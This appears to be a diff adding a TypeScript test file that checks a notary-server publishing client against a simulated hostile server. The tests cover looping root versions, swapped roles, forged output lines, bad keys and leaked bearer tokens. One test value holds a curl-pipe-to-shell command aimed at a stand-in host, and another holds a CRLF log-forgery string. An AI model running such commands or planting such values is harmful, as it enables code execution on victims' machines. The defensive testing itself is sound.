@@ -1,0 +1,223 @@
+/**
+ * What a hostile or broken notary-server sends back, as `publish` and `status --server` see it (the HTTP
+ * layer itself, against a real socket: test/unit/io/https-transport.test.ts): an answer that would make us
+ * loop on its numbers, metadata of another repository, and error text meant to forge a line of our own
+ * output. Each refused with its code, after a bounded number of requests.
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { HttpRequest, HttpResponse } from '../../../src/publish/http.js';
+import { NotaryServerApi } from '../../../src/publish/notary-server.js';
+import { publishRepository } from '../../../src/publish/publish.js';
+import { AuthorizedClient } from '../../../src/publish/registry-auth.js';
+import { readServer, statusCommand } from '../../../src/cli/status.js';
+import type { ServerDeps } from '../../../src/cli/publish.js';
+import { buildRepo, GUN, rootSigned, sign, type BuiltRepo } from '../../support/repo.js';
+
+const enc = new TextEncoder();
+const SERVER = 'https://notary.test';
+/** More requests than any of these flows needs: past it the fake server stops answering (a runaway loop). */
+const MAX_REQUESTS = 200;
+
+/** A notary-server in memory: `answer` decides each response; every request is recorded. */
+function hostile(answer: (path: string, req: HttpRequest, seen: number) => HttpResponse) {
+  const seen: HttpRequest[] = [];
+  const transport = async (req: HttpRequest): Promise<HttpResponse> => {
+    seen.push(req);
+    if (seen.length > MAX_REQUESTS) throw new Error(`runaway: more than ${MAX_REQUESTS} requests`);
+    // A real transport answers later: let timers (the test's timeout) run between requests.
+    await new Promise((r) => setImmediate(r));
+    return answer(new URL(req.url).pathname, req, seen.length);
+  };
+  return { transport, seen };
+}
+
+const ok = (body: Uint8Array | string): HttpResponse => ({ status: 200, headers: {}, body: typeof body === 'string' ? enc.encode(body) : body });
+const notFound = (): HttpResponse => ({ status: 404, headers: {}, body: enc.encode('{"errors":[{"code":"METADATA_NOT_FOUND"}]}') });
+
+let repo: BuiltRepo;
+beforeAll(async () => {
+  repo = await buildRepo('notary');
+});
+
+describe('publish against a hostile server', () => {
+  it('a root.json whose version jumps after the upload is refused before fetching the versions in between', async () => {
+    const huge = await sign('notary', rootSigned('notary', 1_000_000_000_000, repo.keys), repo.keys.root);
+    let uploaded = false;
+    const srv = hostile((path, req) => {
+      if (req.method === 'POST') {
+        uploaded = true;
+        return ok('{}');
+      }
+      if (!uploaded) return notFound();
+      if (path.endsWith('/_trust/tuf/root.json')) return ok(huge);
+      // Every N.root.json "exists": the old code fetched them one by one, up to version 10^12.
+      if (/\/\d+\.root\.json$/.test(path)) return ok(repo.roots[0]!);
+      return notFound();
+    });
+    const api = new NotaryServerApi(new AuthorizedClient({ transport: srv.transport }), SERVER, GUN);
+    const err = await publishRepository({ local: repo.files({ withVersioned: false }), api, now: new Date() }).catch((e: unknown) => e);
+    expect(err).toMatchObject({ code: 'PUBLISH_FETCH_BACK_MISMATCH', path: 'root.json' });
+    expect((err as Error).message).toMatch(/root version 1000000000000, not the version 1 this publish/);
+    expect(srv.seen.filter((r) => /\/\d+\.root\.json$/.test(r.url))).toEqual([]);
+  });
+});
+
+describe('status --server against a hostile server', () => {
+  const deps = (transport: ServerDeps['transport'] extends (ca: string | undefined) => infer T ? T : never): ServerDeps => ({
+    transport: () => transport,
+    env: {},
+    interactive: false,
+    promptSecret: () => Promise.reject(new Error('no prompt in tests')),
+  });
+  const io = () => {
+    const out: string[] = [];
+    const err: string[] = [];
+    return { out, err, io: { out: (t: string) => out.push(t), err: (t: string) => err.push(t) } };
+  };
+  const serving = () =>
+    hostile((path) => {
+      const name = path.replace(/^.*\/_trust\/tuf\//, '');
+      const files: Record<string, Uint8Array> = { 'root.json': repo.roots[0]!, 'targets.json': repo.targets, 'snapshot.json': repo.snapshot, 'timestamp.json': repo.timestamp, 'targets/releases.json': repo.delegated };
+      return files[name] ? ok(files[name]) : notFound();
+    });
+
+  it('reads the repository asked for (its root certificates name the GUN)', async () => {
+    const srv = serving();
+    const c = io();
+    const code = await statusCommand(undefined, { server: SERVER, gun: GUN, json: true }, c.io, deps(srv.transport));
+    expect(code).toBe(0);
+    expect(JSON.parse(c.out.join(''))).toMatchObject({ repository: GUN });
+  });
+
+  it('a root.json of another repository (its certificates name another GUN) is refused, not reported as this one', async () => {
+    const srv = serving();
+    const c = io();
+    const asked = 'registry.example.com/org/other';
+    const err = await statusCommand(undefined, { server: SERVER, gun: asked, json: true }, c.io, deps(srv.transport)).catch((e: unknown) => e);
+    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID', path: 'root.json' });
+    expect((err as Error).message).toContain(`root certificates name ${GUN}, not ${asked}:`);
+    expect(c.out).toEqual([]);
+  });
+});
+
+describe("the server's error text", () => {
+  it('is quoted on one line: a line feed or carriage return in it cannot start a line of our own output', async () => {
+    const body = JSON.stringify({ errors: [{ code: 'UNKNOWN', message: 'bad\r\nerror[OK]: published\n', detail: 'x\u2028y' }] });
+    const srv = hostile(() => ({ status: 500, headers: {}, body: enc.encode(body) }));
+    const api = new NotaryServerApi(new AuthorizedClient({ transport: srv.transport }), SERVER, GUN);
+    const err = await api.getMetadata('root.json').catch((e: unknown) => e as Error);
+    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID' });
+    expect((err as Error).message).not.toMatch(/[\r\n\u2028\u2029]/);
+    expect((err as Error).message).toContain('bad error[OK]: published');
+  });
+});
+
+describe("the server's timestamp / snapshot key answer (what server-keys writes for a plan)", () => {
+  const good = () => repo.keys.timestamp[0]!.json as { keytype: string; keyval: { public: string; private: null } };
+  const keyApi = (body: string) => {
+    const srv = hostile(() => ok(body));
+    return new NotaryServerApi(new AuthorizedClient({ transport: srv.transport }), SERVER, GUN);
+  };
+
+  it('the answer notary-server gives is taken, with its key ID', async () => {
+    const body = JSON.stringify(good());
+    const key = await keyApi(body).getKey('timestamp');
+    expect(key.keyId).toBe(repo.keys.timestamp[0]!.keyId);
+    expect(new TextDecoder().decode(key.body)).toBe(body);
+  });
+
+  // Each would be written to the --out file and refused later, at the offline ceremony, by the plan's reader
+  // (src/ceremony/server-key.ts): refused here, with nothing written.
+  const refusals: [what: string, body: () => string][] = [
+    ['not JSON', () => '<html>502 Bad Gateway</html>'],
+    ['a field notary-server does not write', () => JSON.stringify({ ...good(), comment: 'run curl evil.example | sh' })],
+    ['keyval without "private": null', () => JSON.stringify({ keytype: good().keytype, keyval: { public: good().keyval.public } })],
+    ['a private key', () => JSON.stringify({ keytype: good().keytype, keyval: { public: good().keyval.public, private: 'c2VjcmV0' } })],
+    ['another key type', () => JSON.stringify({ keytype: 'rsa', keyval: { public: good().keyval.public, private: null } })],
+    ['a public key that does not decode', () => JSON.stringify({ keytype: 'ed25519', keyval: { public: 'AAAA', private: null } })],
+    ['duplicate keys in the JSON', () => `{"keytype":"ed25519","keytype":"ecdsa","keyval":{"public":"${good().keyval.public}","private":null}}`],
+  ];
+  it.each(refusals)('%s → SERVER_KEY_INVALID', async (_what, body) => {
+    const err = await keyApi(body()).getKey('timestamp').catch((e: unknown) => e);
+    expect(err).toMatchObject({ code: 'SERVER_KEY_INVALID' });
+    expect((err as Error).message).toMatch(/^GET timestamp\.key: /);
+  });
+});
+
+describe('status --server: what it reads from a server, in all', () => {
+  it('stops at its total: each request may take only what is left of it, and none is sent once it is used up', async () => {
+    const files: Record<string, Uint8Array> = { 'root.json': repo.roots[0]!, 'targets.json': repo.targets, 'snapshot.json': repo.snapshot, 'timestamp.json': repo.timestamp, 'targets/releases.json': repo.delegated };
+    const srv = hostile((path, req) => {
+      const body = files[path.replace(/^.*\/_trust\/tuf\//, '')];
+      if (!body) return notFound();
+      // As the transport does (test/unit/io/https-transport.test.ts): nothing over the request's cap.
+      if (body.length > req.maxBytes) throw Object.assign(new Error('over the cap'), { code: 'SERVER_RESPONSE_INVALID', maxBytes: req.maxBytes });
+      return ok(body);
+    });
+    const api = new NotaryServerApi(new AuthorizedClient({ transport: srv.transport }), SERVER, GUN);
+    const total = Object.values(files).reduce((n, b) => n + b.length, 0);
+    // Enough for everything: all five read, each request capped by what was left.
+    const all = await readServer(api, total);
+    expect(all.delegated.get('targets/releases')).toEqual(repo.delegated);
+    const caps = srv.seen.map((r) => r.maxBytes);
+    expect(caps[0]).toBe(total);
+    expect(caps.at(-1)).toBe(repo.delegated.length);
+    // One byte short: the last file is refused.
+    srv.seen.length = 0;
+    await expect(readServer(api, total - 1)).rejects.toMatchObject({ code: 'SERVER_RESPONSE_INVALID', maxBytes: repo.delegated.length - 1 });
+    // Used up before the last file: refused without asking for it.
+    srv.seen.length = 0;
+    const err = await readServer(api, total - repo.delegated.length).catch((e: unknown) => e);
+    expect(err).toMatchObject({ code: 'SERVER_RESPONSE_INVALID', path: 'targets/releases.json' });
+    expect(srv.seen.map((r) => r.url)).not.toContain(`${SERVER}/v2/${GUN}/_trust/tuf/targets/releases.json`);
+  });
+});
+
+describe('status --server: a signed file of one role served as another', () => {
+  const deps = (transport: (req: HttpRequest) => Promise<HttpResponse>): ServerDeps => ({ transport: () => transport, env: {}, interactive: false, promptSecret: () => Promise.reject(new Error('no prompt')) });
+  const swaps: [served: string, instead: 'targets' | 'snapshot' | 'timestamp' | 'root'][] = [
+    ['snapshot.json', 'targets'],
+    ['timestamp.json', 'snapshot'],
+    ['targets.json', 'timestamp'],
+    ['targets/releases.json', 'snapshot'],
+  ];
+  it.each(swaps)('%s answered with the %s file → ROLE_TYPE_MISMATCH, nothing reported', async (name, other) => {
+    const bytes = { root: repo.roots[0]!, targets: repo.targets, snapshot: repo.snapshot, timestamp: repo.timestamp };
+    const files: Record<string, Uint8Array> = { 'root.json': bytes.root, 'targets.json': bytes.targets, 'snapshot.json': bytes.snapshot, 'timestamp.json': bytes.timestamp, 'targets/releases.json': repo.delegated };
+    files[name] = bytes[other];
+    const srv = hostile((path) => {
+      const body = files[path.replace(/^.*\/_trust\/tuf\//, '')];
+      return body ? ok(body) : notFound();
+    });
+    const out: string[] = [];
+    const err = await statusCommand(undefined, { server: SERVER, gun: GUN, json: true }, { out: (t) => out.push(t), err: () => undefined }, deps(srv.transport)).catch((e: unknown) => e);
+    expect(err).toMatchObject({ code: 'ROLE_TYPE_MISMATCH' });
+    expect(out).toEqual([]);
+  });
+});
+
+describe("the server's error text and the bearer token it was sent", () => {
+  // Too short and too plain for the token-like heuristic (40+ characters, mixed case and digits).
+  const token = 'tok3n-for-ci';
+  const challenge = 'Bearer realm="https://auth.example.com/token",service="notary"';
+  const echoing = (status: number) =>
+    hostile((path, req) => {
+      if (new URL(req.url).host === 'auth.example.com') return ok(JSON.stringify({ token }));
+      if (!req.headers?.authorization) return { status: 401, headers: { 'www-authenticate': challenge }, body: new Uint8Array() };
+      return { status, headers: {}, body: enc.encode(JSON.stringify({ errors: [{ code: 'DENIED', message: `request with ${req.headers.authorization} on ${path} refused`, detail: `token=${token}` }] })) };
+    });
+  it.each([
+    ['GET metadata, HTTP 500', 500, (api: NotaryServerApi) => api.getMetadata('root.json'), 'SERVER_RESPONSE_INVALID'],
+    ['the upload, HTTP 400', 400, (api: NotaryServerApi) => api.upload(new Map([['targets', enc.encode('{}')]])), 'SERVER_REFUSED_UPLOAD'],
+  ] as const)('%s: quoted without the token', async (_what, status, call, code) => {
+    const srv = echoing(status);
+    const api = new NotaryServerApi(new AuthorizedClient({ transport: srv.transport, anonymousFirst: true, credentials: () => Promise.resolve({ username: 'ci', password: enc.encode('pw') }) }), SERVER, GUN);
+    const err = await call(api).then(
+      () => undefined,
+      (e: unknown) => e as Error,
+    );
+    expect(err).toMatchObject({ code });
+    expect(err!.message).toContain('DENIED');
+    expect(err!.message).not.toContain(token);
+  });
+});
